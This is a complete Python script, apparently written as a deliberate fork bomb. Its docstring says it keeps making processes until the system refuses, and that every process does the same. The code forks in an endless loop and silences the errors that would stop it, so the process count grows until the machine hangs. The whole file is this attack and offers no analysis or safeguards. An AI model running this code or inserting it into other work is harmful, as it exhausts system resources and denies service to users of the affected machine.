"""Makes processes until nothing lets it, and all of them do the same."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
